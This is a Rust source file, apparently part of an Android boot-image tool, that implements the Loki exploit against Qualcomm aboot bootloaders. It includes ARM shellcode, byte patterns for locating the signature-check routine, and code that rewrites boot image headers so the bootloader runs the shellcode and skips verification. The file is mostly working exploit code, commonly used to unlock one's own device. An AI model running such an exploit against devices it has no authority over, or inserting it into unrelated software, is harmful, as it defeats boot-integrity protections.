// SPDX-FileCopyrightText: 2023-2024 Andrew Gunnerson
// SPDX-License-Identifier: GPL-3.0-only

//! Loki exploit for Qualcomm aboot builds with a broken signature check.
//!
//! The patched image claims a kernel that covers both the real kernel and the
//! ramdisk. Its ramdisk points at aboot's own signature check routine, and the
//! bytes loaded there are a copy of that routine with a small shellcode
//! trampoline overlaid. The trampoline restores the original header fields
//! from aboot's in-memory copy of the header and returns success.

use std::ops::Range;

use memchr::memmem;
use thiserror::Error;
use tracing::{debug, trace};
use zerocopy::{FromBytes, IntoBytes};

use crate::{
    format::{
        header::{
            ANDROID_HEADER_SIZE, BOOT_MAGIC, LOKI_BUILD_SIZE, LOKI_HEADER_SIZE, LOKI_MAGIC,
            LOKI_MAGIC_OFFSET, RawAndroidHeader, RawLokiHeader,
        },
        padding::{self, ZeroPadding},
    },
    patch::targets::{self, Target},
    util,
};

/// Both inputs are zero-extended to this alignment before scanning.
const SCAN_ALIGNMENT: usize = 0x1000;

/// Offset of the load address word in aboot's own header.
const ABOOT_ADDR_OFFSET: usize = 12;
/// Distance between that load address and the start of the aboot image.
const ABOOT_HEADER_SIZE: u32 = 0x28;

/// Size of the aboot copy placed after the ramdisk for non-LG devices.
pub const NON_LG_FAKE_SIZE: usize = 0x200;

/// Prologues of the signature check routine, one per toolchain variant.
pub static PATTERNS: [[u8; 8]; 5] = [
    [0xf0, 0xb5, 0x8f, 0xb0, 0x06, 0x46, 0xf0, 0xf7],
    [0xf0, 0xb5, 0x8f, 0xb0, 0x07, 0x46, 0xf0, 0xf7],
    [0x2d, 0xe9, 0xf0, 0x41, 0x86, 0xb0, 0xf1, 0xf7],
    [0x2d, 0xe9, 0xf0, 0x4f, 0xad, 0xf5, 0xc6, 0x6d],
    [0x2d, 0xe9, 0xf0, 0x4f, 0xad, 0xf5, 0x21, 0x7d],
];

/// Some LG builds contain this prologue in addition to one of [`PATTERNS`].
/// It must only be considered when none of those match.
pub static LG_PATTERN: [u8; 8] = [0x2d, 0xe9, 0xf0, 0x4f, 0xf3, 0xb0, 0x05, 0x46];

const HDR_SENTINEL: [u8; 4] = [0xff; 4];
const RAMDISK_SENTINEL: [u8; 4] = [0xee; 4];

pub const SHELLCODE_SIZE: usize = 65;

#[rustfmt::skip]
pub static SHELLCODE: [u8; SHELLCODE_SIZE] = [
    0xfe, 0xb5, 0x0d, 0x4d, 0xd5, 0xf8, 0x88, 0x04, 0xab, 0x68, 0x98, 0x42,
    0x12, 0xd0, 0xd5, 0xf8, 0x90, 0x64, 0x0a, 0x4c, 0xd5, 0xf8, 0x8c, 0x74,
    0x07, 0xf5, 0x80, 0x57, 0x0f, 0xce, 0x0f, 0xc4, 0x10, 0x3f, 0xfb, 0xdc,
    0xd5, 0xf8, 0x88, 0x04, 0x04, 0x49, 0xd5, 0xf8, 0x8c, 0x24, 0xa8, 0x60,
    0x69, 0x61, 0x2a, 0x61, 0x00, 0x20, 0xfe, 0xbd, 0xff, 0xff, 0xff, 0xff,
    0xee, 0xee, 0xee, 0xee, 0x00,
];

/// Leading part of [`SHELLCODE`] that is identical in every patched image.
pub const SHELLCODE_CODE_SIZE: usize = 56;
/// Where the original ramdisk address ends up in a patched shellcode.
pub const SHELLCODE_RAMDISK_ADDR_OFFSET: usize = 60;

#[derive(Debug, Error)]
pub enum Error {
    #[error("aboot image ({0} bytes) is too small")]
    AbootTooSmall(usize),
    #[error("aboot image does not contain a known signature check routine")]
    UnsupportedAboot,
    #[error("No known target has its signature check at {0:#010x}")]
    UnsupportedDevice(u32),
    #[error("{name:?} ({offset:#x}+{size:#x}) exceeds source size ({len:#x})")]
    SectionOutOfBounds {
        name: &'static str,
        offset: usize,
        size: usize,
        len: usize,
    },
    #[error("{0:?} overflowed integer bounds during calculations")]
    IntOverflow(&'static str),
    #[error("Boot image ({0} bytes) is smaller than the boot image header")]
    SmallerThanHeader(usize),
    #[error("Boot image does not start with an Android header")]
    NoAndroidHeader,
    #[error("Invalid page size: {0}")]
    InvalidPageSize(u32),
    #[error("Boot images with a second stage bootloader cannot be patched")]
    SecondStageUnsupported,
}

pub type Result<T> = std::result::Result<T, Error>;

/// Find the signature check routine in `aboot`. Returns the file offset of the
/// match and the target whose virtual address it corresponds to.
pub fn find_target(aboot: &[u8]) -> Result<(usize, &'static Target)> {
    let aboot_base = util::read_le_u32(aboot, ABOOT_ADDR_OFFSET)
        .ok_or(Error::AbootTooSmall(aboot.len()))?
        .checked_sub(ABOOT_HEADER_SIZE)
        .ok_or(Error::IntOverflow("aboot_base"))?;

    debug!("aboot base address: {aboot_base:#010x}");

    let offset = PATTERNS
        .iter()
        .filter_map(|p| memmem::find(aboot, p))
        .min()
        .or_else(|| {
            trace!("Falling back to LG specific pattern");
            memmem::find(aboot, &LG_PATTERN)
        })
        .ok_or(Error::UnsupportedAboot)?;

    let addr = u32::try_from(offset)
        .ok()
        .and_then(|o| o.checked_add(aboot_base))
        .ok_or(Error::IntOverflow("check_sigs"))?;

    debug!("Signature check routine at offset {offset:#x} ({addr:#010x})");

    let target = targets::find_by_check_sigs(addr).ok_or(Error::UnsupportedDevice(addr))?;

    debug!(
        "Matched target: {} {} ({})",
        target.vendor, target.device, target.build,
    );

    Ok((offset, target))
}

/// Fill in the shellcode's placeholders. Every occurrence of a sentinel in the
/// template is replaced, and replacements never feed into later matches.
pub fn patch_shellcode(hdr: u32, ramdisk_addr: u32) -> [u8; SHELLCODE_SIZE] {
    let mut result = SHELLCODE;
    let mut i = 0;

    while i + 4 <= SHELLCODE.len() {
        let window = &SHELLCODE[i..i + 4];
        let value = if window == HDR_SENTINEL {
            hdr
        } else if window == RAMDISK_SENTINEL {
            ramdisk_addr
        } else {
            i += 1;
            continue;
        };

        result[i..i + 4].copy_from_slice(&value.to_le_bytes());
        i += 4;
    }

    result
}

/// Find the original ramdisk address stored in a patched shellcode somewhere
/// in `data`.
pub fn find_shellcode_ramdisk_addr(data: &[u8]) -> Option<u32> {
    let offset = memmem::find(data, &SHELLCODE[..SHELLCODE_CODE_SIZE])?;

    util::read_le_u32(data, offset + SHELLCODE_RAMDISK_ADDR_OFFSET)
}

fn source_range(
    name: &'static str,
    offset: usize,
    size: usize,
    len: usize,
) -> Result<Range<usize>> {
    util::section_range(offset, size, len).ok_or(Error::SectionOutOfBounds {
        name,
        offset,
        size,
        len,
    })
}

/// Apply the Loki patch to a plain Android boot image whose header is at
/// offset 0. `aboot` must be the exact aboot partition image from the device.
pub fn patch(image: &[u8], aboot: &[u8]) -> Result<Vec<u8>> {
    let image = padding::zero_extended(image, SCAN_ALIGNMENT);
    let aboot = padding::zero_extended(aboot, SCAN_ALIGNMENT);

    let (aboot_offset, target) = find_target(&aboot)?;

    let (mut hdr, _) = RawAndroidHeader::read_from_prefix(&image)
        .map_err(|_| Error::SmallerThanHeader(image.len()))?;
    if hdr.magic != BOOT_MAGIC {
        return Err(Error::NoAndroidHeader);
    }

    let page_size = hdr.page_size.get();
    if !padding::is_valid_page_size(page_size) {
        return Err(Error::InvalidPageSize(page_size));
    }
    if hdr.second_size.get() != 0 {
        return Err(Error::SecondStageUnsupported);
    }

    let orig_kernel_size = hdr.kernel_size.get();
    let orig_ramdisk_size = hdr.ramdisk_size.get();
    let orig_ramdisk_addr = hdr.ramdisk_addr.get();

    let page_kernel_size =
        padding::round(orig_kernel_size, page_size).ok_or(Error::IntOverflow("kernel_size"))?;
    let page_ramdisk_size =
        padding::round(orig_ramdisk_size, page_size).ok_or(Error::IntOverflow("ramdisk_size"))?;

    let mut build = [0u8; LOKI_BUILD_SIZE];
    // Always NUL terminated.
    let build_len = target.build.len().min(LOKI_BUILD_SIZE - 1);
    build[..build_len].copy_from_slice(&target.build.as_bytes()[..build_len]);

    let loki_hdr = RawLokiHeader {
        magic: LOKI_MAGIC,
        recovery: 0.into(),
        build,
        orig_kernel_size: orig_kernel_size.into(),
        orig_ramdisk_size: orig_ramdisk_size.into(),
        ramdisk_addr: hdr
            .kernel_addr
            .get()
            .checked_add(page_kernel_size)
            .ok_or(Error::IntOverflow("ramdisk_addr"))?
            .into(),
    };

    let shellcode = patch_shellcode(target.hdr, orig_ramdisk_addr);

    let align_offset = (target.check_sigs & 0xf) as usize;
    let fake_size = if target.lg {
        page_size as usize
    } else {
        NON_LG_FAKE_SIZE
    };

    hdr.kernel_size = page_kernel_size
        .checked_add(orig_ramdisk_size)
        .ok_or(Error::IntOverflow("kernel_size"))?
        .into();
    hdr.ramdisk_addr = (target.check_sigs - align_offset as u32).into();
    let fake_ramdisk_size = if target.lg { page_size } else { 0 };
    hdr.ramdisk_size = fake_ramdisk_size.into();

    debug!(
        "Kernel size: {orig_kernel_size:#x} -> {:#x}, ramdisk address: {orig_ramdisk_addr:#010x} -> {:#010x}",
        hdr.kernel_size.get(),
        hdr.ramdisk_addr.get(),
    );

    let page_size = page_size as usize;
    let page_kernel_size = page_kernel_size as usize;
    let page_ramdisk_size = page_ramdisk_size as usize;
    let dt_size = hdr.dt_size.get() as usize;

    let header_range = source_range("header", 0, page_size, image.len())?;
    let kernel_range = source_range("kernel", page_size, page_kernel_size, image.len())?;
    let ramdisk_range = source_range("ramdisk", kernel_range.end, page_ramdisk_size, image.len())?;
    let fake_range = source_range("aboot", aboot_offset, fake_size, aboot.len())?;
    let dt_range = source_range("dt", ramdisk_range.end, dt_size, image.len())?;

    let mut out = Vec::with_capacity(ramdisk_range.end + fake_size + dt_size);

    out.extend_from_slice(&image[header_range]);
    out[..ANDROID_HEADER_SIZE].copy_from_slice(hdr.as_bytes());
    out[LOKI_MAGIC_OFFSET..LOKI_MAGIC_OFFSET + LOKI_HEADER_SIZE]
        .copy_from_slice(loki_hdr.as_bytes());

    out.extend_from_slice(&image[kernel_range]);
    out.extend_from_slice(&image[ramdisk_range]);

    let fake_start = out.len();
    out.extend_from_slice(&aboot[fake_range]);

    let shellcode_start = fake_start + align_offset;
    out[shellcode_start..shellcode_start + SHELLCODE_SIZE].copy_from_slice(&shellcode);

    out.extend_from_slice(&image[dt_range]);

    trace!(
        "Build string: {:?}",
        String::from_utf8_lossy(loki_hdr.build.trim_end_padding()),
    );

    Ok(out)
}
